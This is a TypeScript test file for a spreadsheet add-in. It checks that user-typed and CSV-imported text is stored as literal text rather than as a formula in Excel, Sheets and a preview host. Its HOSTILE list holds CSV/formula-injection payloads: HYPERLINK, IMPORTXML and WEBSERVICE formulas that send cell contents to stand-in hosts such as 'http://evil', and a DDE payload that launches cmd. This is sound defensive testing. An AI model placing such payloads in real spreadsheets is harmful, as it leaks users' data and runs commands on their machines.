/**
 * Issue 9, part 1: text typed in the pane or imported is written as text, never as a formula, on
 * every host (preview, Excel, Sheets). Only what a plan marks as a formula (PlanFormula) becomes
 * one. Each case writes what the pane writes, then reads the cells back through the Workbook and
 * checks how each host holds them.
 */
import { describe, expect, it } from 'vitest';
import { importDelimited } from '../../src/core/inputs/import';
import { CHART_REVIEW_TABLE, JOBS_TABLE, TABLE_LAYOUT, type TableDefinition } from '../../src/core/inputs/tables';
import { historyRow, planHistoryAppend, readHistory } from '../../src/core/history/table';
import type { Review } from '../../src/core/review/model';
import { sampleReview } from '../../src/core/review/sample';
import { DEFAULT_SCALE } from '../../src/core/scale/registry';
import { cellAddress, isPlanFormula, type SheetPlan } from '../../src/core/workbook/plan';
import {
  COLUMNS,
  HEADER_ROWS,
  readScoreSheet,
  scoreSheetLayout,
  scoreSheetPlan,
} from '../../src/core/sheets/score-sheet';
import type { CellValue } from '../../src/core/cells';
import { importPlans, type ImportDraft } from '../../src/ui/inputs-state';
import { reportPlans } from '../../src/ui/workflow';
import { HOST_NAMES, hostUnderTest, type HostUnderTest } from './hosts';

/** Text a user may type or import that a spreadsheet would otherwise take as a formula, number, date or boolean. */
export const HOSTILE = {
  equals: '=1+1',
  hyperlink: '=HYPERLINK("http://evil/?"&A1,"klikk")',
  importXml: '=IMPORTXML("http://x/?"&A1,"//a")',
  webService: '=WEBSERVICE("http://x/?"&A1)',
  dde: "+cmd|' /C calc'!A0",
  at: '@SUM(1)',
  minus: '-2+3',
  apostrophe: "'sitat",
  tab: '\tTabulator først',
  carriageReturn: '\rLinjeskift først',
  leadingZeros: '007',
  slashDate: '1/2',
  boolean: 'TRUE',
  norwegian: '=æøå ÆØÅ',
} as const;

const SHEET = 'IPS 2025-06-07';
const ITEMS = DEFAULT_SCALE.items;
const layout = scoreSheetLayout();

/** The sample review with hostile text in every free-text field the score sheet holds. */
function hostileReview(): Review {
  const review = sampleReview();
  review.service = HOSTILE.equals;
  review.team = HOSTILE.hyperlink;
  review.evaluators = HOSTILE.dde;
  review.raters = review.raters.map((rater, index) => ({
    ...rater,
    name: [HOSTILE.at, HOSTILE.apostrophe, HOSTILE.minus][index % 3]!,
  }));
  const texts = Object.values(HOSTILE);
  ITEMS.forEach((item, index) => {
    const record = review.items[item.id]!;
    record.evidence = texts[index % texts.length]!;
    record.recommendation = texts[(index + 3) % texts.length]!;
    record.consensusNote = texts[(index + 7) % texts.length]!;
  });
  const first = ITEMS[0]!.id;
  review.corrections = [
    {
      itemId: first,
      previous: review.items[first]!.consensus,
      corrected: 4,
      reason: HOSTILE.webService,
      date: '2025-06-10',
    },
  ];
  review.items[first]!.consensus = 4;
  return review;
}

/**
 * Every cell of a plan as the host holds it: literal text reads back exactly as planned and is not
 * a formula; a marked formula is a formula.
 */
function expectWrittenAsPlanned(host: HostUnderTest, plan: SheetPlan, values: readonly (readonly CellValue[])[]): void {
  for (const block of plan.blocks) {
    block.values.forEach((row, r) =>
      row.forEach((planned, c) => {
        const address = cellAddress(block.row + r, block.column + c);
        if (typeof planned === 'string' && planned !== '') {
          expect(values[block.row + r]?.[block.column + c], `${plan.sheet}!${address}`).toBe(planned);
          expect(host.isFormula(plan.sheet, address), `${plan.sheet}!${address} is text`).toBe(false);
        } else if (isPlanFormula(planned)) {
          expect(host.isFormula(plan.sheet, address), `${plan.sheet}!${address} is a formula`).toBe(true);
        }
      }),
    );
  }
}

async function writeAndRead(host: HostUnderTest, plans: readonly SheetPlan[]): Promise<CellValue[][][]> {
  await host.workbook.write([...plans]);
  return (await host.workbook.readSheets(plans.map((plan) => plan.sheet))).map((values) => values ?? []);
}

/** The import path the pane takes: CSV text → import result → the input table's write plans. */
function importedPlans(
  table: TableDefinition,
  csv: string,
): { plans: readonly SheetPlan[]; rows: readonly { values: Readonly<Record<string, unknown>> }[] } {
  const result = importDelimited(table, csv);
  expect(result.errors).toEqual([]);
  const draft = { tableId: table.id, rows: result.rows, mode: 'replace' } as unknown as ImportDraft;
  return { plans: importPlans(draft, 'nb', '', null).plans, rows: result.rows };
}

const csvField = (text: string) => `"${text.replace(/"/g, '""')}"`;

describe.each(HOST_NAMES)('%s: text typed or imported is written as text, never as a formula', (name) => {
  it('writes service, team, evaluators and rater names on the score sheet as text, and reads them back unchanged', async () => {
    const host = hostUnderTest(name);
    const review = hostileReview();
    const plan = scoreSheetPlan(review, { sheet: SHEET, language: 'nb' });
    const [values] = await writeAndRead(host, [plan]);
    expect(values![HEADER_ROWS.site]![2]).toBe(HOSTILE.equals);
    expect(values![HEADER_ROWS.team]![2]).toBe(HOSTILE.hyperlink);
    expect(values![HEADER_ROWS.ratedBy]![2]).toBe(HOSTILE.dde);
    expect(host.isFormula(SHEET, cellAddress(HEADER_ROWS.site, 2))).toBe(false);
    const back = readScoreSheet(values!)!;
    expect([back.service, back.team, back.evaluators]).toEqual([review.service, review.team, review.evaluators]);
    expect(back.raters.map((rater) => rater.name)).toEqual(review.raters.map((rater) => rater.name));
    expectWrittenAsPlanned(host, plan, values!);
  });

  it('writes evidence, recommendations and consensus notes on the score sheet as text, and reads them back unchanged', async () => {
    const host = hostUnderTest(name);
    const review = hostileReview();
    const plan = scoreSheetPlan(review, { sheet: SHEET, language: 'nb' });
    const [values] = await writeAndRead(host, [plan]);
    const back = readScoreSheet(values!)!;
    for (const item of ITEMS) {
      const [written, read] = [review.items[item.id]!, back.items[item.id]!];
      expect([read.evidence, read.recommendation, read.consensusNote], item.id).toEqual([
        written.evidence,
        written.recommendation,
        written.consensusNote,
      ]);
      expect(host.isFormula(SHEET, cellAddress(layout.itemRows[item.id]!, COLUMNS.comments)), item.id).toBe(false);
    }
    expectWrittenAsPlanned(host, plan, values!);
  });

  it('writes recommendations, notes, names and correction reasons on the report and action plan as text', async () => {
    const host = hostUnderTest(name);
    const review = hostileReview();
    const names = {
      report: 'IPS-rapport',
      actionPlan: 'IPS-handlingsplan',
      charts: 'IPS-graf',
      overview: 'IPS-oversikt',
    };
    const { reportPlan, actionPlan } = reportPlans({
      review,
      previous: null,
      rows: [],
      language: 'nb',
      roster: '',
      includeFours: true,
      names,
    });
    const [report, action] = await writeAndRead(host, [reportPlan, actionPlan]);
    const shown = [...report!, ...action!].flat();
    // The recommendations and the correction reason stand in cells of their own, as written.
    expect(shown).toContain(HOSTILE.webService);
    expect(shown).toContain(review.items[ITEMS[0]!.id]!.recommendation);
    expectWrittenAsPlanned(host, reportPlan, report!);
    expectWrittenAsPlanned(host, actionPlan, action!);
  });

  it('writes service, team, evaluators and correction reasons in the history as text, and reads the history back unchanged', async () => {
    const host = hostUnderTest(name);
    const review = hostileReview();
    const { plan } = planHistoryAppend(null, review, { language: 'nb' });
    const [values] = await writeAndRead(host, [plan]);
    const [row] = readHistory(values!);
    expect(row).toEqual({ ...historyRow(review), sheetRow: 1 });
    expect(row!.service).toBe(HOSTILE.equals);
    expect(row!.corrections).toContain(HOSTILE.webService);
    expectWrittenAsPlanned(host, plan, values!);
  });

  it('writes an imported CSV text column (employer) through the input-table write plan as text', async () => {
    const host = hostUnderTest(name);
    const employers = [
      HOSTILE.importXml,
      HOSTILE.dde,
      HOSTILE.at,
      HOSTILE.equals,
      HOSTILE.leadingZeros,
      HOSTILE.boolean,
    ];
    const csv = [
      'Deltaker;Arbeidsgiver;Stillingsbetegnelse',
      ...employers.map((employer, index) => `P${index + 1};${csvField(employer)};${csvField(HOSTILE.slashDate)}`),
    ].join('\n');
    const { plans } = importedPlans(JOBS_TABLE, csv);
    const values = await writeAndRead(host, plans);
    const column = JOBS_TABLE.columns.findIndex((candidate) => candidate.id === 'employer');
    const title = JOBS_TABLE.columns.findIndex((candidate) => candidate.id === 'jobTitle');
    employers.forEach((employer, index) => {
      const row = TABLE_LAYOUT.firstDataRow + index;
      expect(values[0]![row]![column], employer).toBe(employer);
      expect(values[0]![row]![title]).toBe(HOSTILE.slashDate);
      expect(host.isFormula(plans[0]!.sheet, cellAddress(row, column)), employer).toBe(false);
    });
    plans.forEach((plan, index) => expectWrittenAsPlanned(host, plan, values[index]!));
  });

  it('writes an imported CSV notes column of the record review as text, while its category counter stays formulas', async () => {
    const host = hostUnderTest(name);
    const notes = [HOSTILE.importXml, HOSTILE.hyperlink, HOSTILE.at, HOSTILE.minus];
    const csv = ['Journal nr.;Andre notater', ...notes.map((note, index) => `${index + 1};${csvField(note)}`)].join(
      '\n',
    );
    const { plans } = importedPlans(CHART_REVIEW_TABLE, csv);
    const values = await writeAndRead(host, plans);
    const column = CHART_REVIEW_TABLE.columns.findIndex((candidate) => candidate.id === 'notes');
    notes.forEach((note, index) => expect(values[0]![TABLE_LAYOUT.firstDataRow + index]![column], note).toBe(note));
    plans.forEach((plan, index) => expectWrittenAsPlanned(host, plan, values[index]!));
    // The counter beside the table: formulas, counting the four records.
    const counter = plans[0]!.blocks.find((block) => block.column > CHART_REVIEW_TABLE.columns.length)!;
    const recordsRow = counter.row + counter.values.length - 1;
    expect(host.isFormula(plans[0]!.sheet, cellAddress(recordsRow, counter.column + 1))).toBe(true);
    if (host.calculates) expect(values[0]![recordsRow]![counter.column + 1]).toBe(notes.length);
  });

  it('keeps the formulas the add-in writes as formulas: the total, level and section sums still compute', async () => {
    const host = hostUnderTest(name);
    const review = sampleReview();
    const plan = scoreSheetPlan(review, { sheet: SHEET, language: 'nb' });
    const [values] = await writeAndRead(host, [plan]);
    for (const [row, column] of [
      [HEADER_ROWS.total, 2],
      [HEADER_ROWS.total, 3],
      [layout.totalRow, COLUMNS.score],
    ] as const) {
      expect(host.isFormula(SHEET, cellAddress(row, column)), cellAddress(row, column)).toBe(true);
    }
    if (host.calculates) {
      expect(values![HEADER_ROWS.total]![2]).toBe(103);
      expect(values![HEADER_ROWS.total]![3]).toBe('God kvalitet');
      expect(values![layout.totalRow]![COLUMNS.score]).toBe(103);
    }
    expectWrittenAsPlanned(host, plan, values!);
  });
});
